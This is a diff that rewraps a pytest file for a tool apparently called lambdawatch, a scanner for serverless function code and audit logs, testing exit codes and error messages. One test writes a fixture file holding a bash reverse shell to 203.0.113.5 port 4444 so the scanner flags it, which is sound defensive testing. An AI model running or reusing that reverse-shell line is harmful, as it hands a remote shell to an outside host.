@@ -20,9 +20,12 @@ from tests.hardening.corpus import CLEAR_THEN_ALL_CLEAR, KEY_ID, assert_inert
 
 
 def _trail(tmp_path: Path) -> Path:
-    return write(tmp_path / "logs" / "trail.json",
-                 delivery_bytes([create_fn(1, "payments-api"),
-                                 update_code(2, "orders-api", "2025-03-14T10:00:00Z")]))
+    return write(
+        tmp_path / "logs" / "trail.json",
+        delivery_bytes(
+            [create_fn(1, "payments-api"), update_code(2, "orders-api", "2025-03-14T10:00:00Z")]
+        ),
+    )
 
 
 def test_0_done_and_1_at_or_above_fail_on(tmp_path, lw) -> None:
@@ -34,20 +37,25 @@ def test_0_done_and_1_at_or_above_fail_on(tmp_path, lw) -> None:
     (benign / "app.py").write_text("def handler(event, context):\n    return 1\n")
     evil = tmp_path / "evil"
     evil.mkdir()
-    (evil / "app.py").write_text("import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n")
+    (evil / "app.py").write_text(
+        "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
+    )
     assert lw("scan", str(benign), "--fail-on", "info")[0] == 0
     assert lw("scan", str(evil))[0] == 1
     assert lw("rules", "list")[0] == 0
 
 
-@pytest.mark.parametrize("argv, message", [
-    (["hunt", "--format", "bogus", "x"], "Invalid value for '--format'"),
-    (["hunt", "/nonexistent/trail.json"], "/nonexistent/trail.json: no such file or folder"),
-    (["nosuchcommand"], "No such command 'nosuchcommand'"),
-    (["scan", "/nonexistent.zip"], "scan target not found"),
-    (["rules", "show", "LW999"], "no such rule: LW999"),
-    (["explain", "lw-0", "--state", "/nonexistent.db"], "does not exist"),
-])
+@pytest.mark.parametrize(
+    "argv, message",
+    [
+        (["hunt", "--format", "bogus", "x"], "Invalid value for '--format'"),
+        (["hunt", "/nonexistent/trail.json"], "/nonexistent/trail.json: no such file or folder"),
+        (["nosuchcommand"], "No such command 'nosuchcommand'"),
+        (["scan", "/nonexistent.zip"], "scan target not found"),
+        (["rules", "show", "LW999"], "no such rule: LW999"),
+        (["explain", "lw-0", "--state", "/nonexistent.db"], "does not exist"),
+    ],
+)
 def test_2_bad_usage_is_one_line(lw, argv: list[str], message: str) -> None:
     code, out, err = lw(*argv)
     assert code == 2
@@ -86,13 +94,15 @@ def _crashing_group() -> click.Group:
 
 
 def test_3_internal_error_is_one_line_naming_command_and_input(lw) -> None:
-    code, out, err = lw("crash", "logs/", "s3://bucket/p", "--state", "s.db",
-                        group=_crashing_group())
+    code, out, err = lw(
+        "crash", "logs/", "s3://bucket/p", "--state", "s.db", group=_crashing_group()
+    )
     assert code == 3
     assert out == ""
     [line] = err.splitlines()
-    assert line.startswith("lambdawatch: internal error in `crash logs/ s3://bucket/p s.db`: "
-                           "KeyError: ")
+    assert line.startswith(
+        "lambdawatch: internal error in `crash logs/ s3://bucket/p s.db`: KeyError: "
+    )
     assert line.endswith("(rerun with `lambdawatch --debug ...` for the traceback)")
     assert_inert(line)
     assert KEY_ID not in line and "****(20 chars)" in line
@@ -117,8 +127,12 @@ def test_130_interrupted(lw) -> None:
 
 def test_describe_invocation_names_nested_commands_and_inputs() -> None:
     assert describe_invocation(main, ["rules", "test", "LW101", "--verbose"]) == "rules test LW101"
-    assert describe_invocation(main, ["--debug", "hunt", "a/", "b.json.gz", "--format", "jsonl",
-                                      "--state", "s.db"]) == "hunt a/ b.json.gz s.db"
+    assert (
+        describe_invocation(
+            main, ["--debug", "hunt", "a/", "b.json.gz", "--format", "jsonl", "--state", "s.db"]
+        )
+        == "hunt a/ b.json.gz s.db"
+    )
     assert describe_invocation(main, ["scan", "fn.zip", "--format", "sarif"]) == "scan fn.zip"
     assert describe_invocation(main, ["--bogus"]) == "lambdawatch"
 
@@ -126,8 +140,14 @@ def test_describe_invocation_names_nested_commands_and_inputs() -> None:
 def test_the_console_script_path_exits_2_on_bad_usage(tmp_path) -> None:
     """``python -m lambdawatch`` (what the console script runs) maps errors the same way."""
     env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
-    done = subprocess.run([sys.executable, "-m", "lambdawatch", "hunt", str(tmp_path / "nope")],
-                          capture_output=True, text=True, env=env, timeout=120, check=False)
+    done = subprocess.run(
+        [sys.executable, "-m", "lambdawatch", "hunt", str(tmp_path / "nope")],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+        check=False,
+    )
     assert done.returncode == 2
     assert done.stderr.strip().endswith("nope: no such file or folder")
     assert "Traceback" not in done.stderr
